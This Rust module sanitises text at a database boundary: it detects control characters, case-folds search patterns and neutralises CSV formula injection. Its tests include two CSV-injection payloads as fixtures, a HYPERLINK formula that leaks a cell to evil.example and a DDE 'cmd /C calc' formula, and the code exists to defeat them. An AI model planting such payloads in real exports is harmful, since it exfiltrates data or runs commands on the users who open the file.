//! Text as it crosses the boundary, the same on every database:
//! - [`find_control`]: user text must not carry NUL or other control characters (PostgreSQL
//!   refuses NUL in `TEXT`, SQLite stores it, and neither is ever meant by a person);
//! - [`fold`] and [`contains_pattern`]: case-insensitive search by Unicode case folding, done
//!   here rather than by the database (SQLite's `LOWER` folds ASCII only);
//! - [`Csv`]: every exported CSV cell that a spreadsheet would run as a formula is neutralised
//!   (OWASP's rule for CSV injection).

use std::borrow::Cow;

/// Which characters a field may hold besides printable text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lines {
    /// A name, an email, a search: no control character at all.
    Single,
    /// A message, a justification, a file: tab, line feed and carriage return allowed.
    Multi,
}

/// The first control character in `value` that a field of kind `lines` may not hold.
pub fn find_control(value: &str, lines: Lines) -> Option<char> {
    value
        .chars()
        .find(|&c| c.is_control() && !(lines == Lines::Multi && matches!(c, '\t' | '\n' | '\r')))
}

/// The message for a field that holds the control character `c`, naming the field.
pub fn control_message(field: &str, c: char) -> String {
    let what = match c {
        '\0' => "a NUL character (U+0000)".to_string(),
        '\t' => "a tab".to_string(),
        '\n' | '\r' => "a line break".to_string(),
        c => format!("a control character (U+{:04X})", c as u32),
    };
    format!("{field} contains {what}; remove it and try again.")
}

/// `Err` with a message naming `field` when `value` holds a character its kind refuses.
pub fn check(field: &str, value: &str, lines: Lines) -> Result<(), String> {
    match find_control(value, lines) {
        Some(c) => Err(control_message(field, c)),
        None => Ok(()),
    }
}

/// Unicode default case folding (`Ærø` and `ærø`, `STRASSE` and `straße` fold alike): what
/// searches compare, stored beside the text it folds.
pub fn fold(s: &str) -> String {
    caseless::default_case_fold_str(s)
}

/// A `LIKE … ESCAPE '\'` pattern matching any folded text that contains `search` (folded,
/// trimmed; `%`, `_` and `\` in it are literal). An empty search matches everything.
pub fn contains_pattern(search: &str) -> String {
    let escaped = fold(search.trim())
        .replace('\\', "\\\\")
        .replace('%', "\\%")
        .replace('_', "\\_");
    format!("%{escaped}%")
}

/// A cell as written to a CSV file: one that starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`, so that a spreadsheet shows it as text instead of
/// running it as a formula (OWASP, CSV Injection). A plain number (`-1.50`) is left alone: it
/// is not a formula, and exports must keep negative amounts as numbers.
pub fn csv_cell(cell: &str) -> Cow<'_, str> {
    let risky = cell
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `-12`, `+3.5`, `-0.000000001`: an optional sign, digits, an optional fraction.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// A CSV file being written in memory, every cell through [`csv_cell`]: the one way exports
/// write CSV, so none can forget the rule.
pub struct Csv {
    w: csv::Writer<Vec<u8>>,
}

impl Default for Csv {
    fn default() -> Self {
        Csv::new()
    }
}

impl Csv {
    /// CSV with the `csv` crate's defaults (`\n` line ends, quotes where needed).
    pub fn new() -> Csv {
        Csv::with(csv::WriterBuilder::new())
    }

    /// A CSV written by `builder` (another line end, rows of varying length).
    pub fn with(builder: csv::WriterBuilder) -> Csv {
        Csv {
            w: builder.from_writer(Vec::new()),
        }
    }

    pub fn row<I, T>(&mut self, fields: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.w.write_record(
            fields
                .into_iter()
                .map(|f| csv_cell(f.as_ref()).into_owned()),
        )
    }

    pub fn finish(self) -> Result<String, csv::Error> {
        let bytes = self
            .w
            .into_inner()
            .map_err(|e| csv::Error::from(e.into_error()))?;
        String::from_utf8(bytes)
            .map_err(|e| csv::Error::from(std::io::Error::new(std::io::ErrorKind::InvalidData, e)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_are_not() {
        let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
        assert_eq!(csv_cell(evil), format!("'{evil}"));
        for risky in ["+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "=", "-1e5"] {
            assert!(csv_cell(risky).starts_with('\''), "{risky:?}");
        }
        for plain in [
            "-1.50",
            "+3",
            "0.000000001",
            "-12",
            "Acme",
            "",
            "a=b",
            "2026-11-27",
        ] {
            assert_eq!(csv_cell(plain), plain);
        }
    }

    #[test]
    fn a_csv_written_here_quotes_and_neutralises() {
        let mut csv = Csv::new();
        csv.row(["name", "amount"]).unwrap();
        csv.row(["=cmd|' /C calc'!A0", "-1.50"]).unwrap();
        let text = csv.finish().unwrap();
        assert_eq!(text, "name,amount\n'=cmd|' /C calc'!A0,-1.50\n");
    }

    #[test]
    fn control_characters_are_found_by_kind() {
        assert_eq!(find_control("a\0b", Lines::Multi), Some('\0'));
        assert_eq!(find_control("a\nb\tc\r", Lines::Multi), None);
        assert_eq!(find_control("a\nb", Lines::Single), Some('\n'));
        assert_eq!(find_control("caf\u{e9} \u{1F600}", Lines::Single), None);
        assert_eq!(find_control("x\u{7f}", Lines::Multi), Some('\u{7f}'));
        assert_eq!(find_control("x\u{85}", Lines::Multi), Some('\u{85}'));
        assert_eq!(
            check("Name", "a\0", Lines::Single).unwrap_err(),
            "Name contains a NUL character (U+0000); remove it and try again."
        );
    }

    #[test]
    fn folding_matches_any_case_of_any_script() {
        assert_eq!(fold("Ærø Øresund"), fold("ærø øresund"));
        assert!(fold("Ærø Øresund").contains(&fold("ØRESUND")));
        assert_eq!(fold("STRASSE"), fold("straße"));
        assert_eq!(contains_pattern(" 50%_a\\ "), "%50\\%\\_a\\\\%");
        assert_eq!(contains_pattern(""), "%%");
    }
}
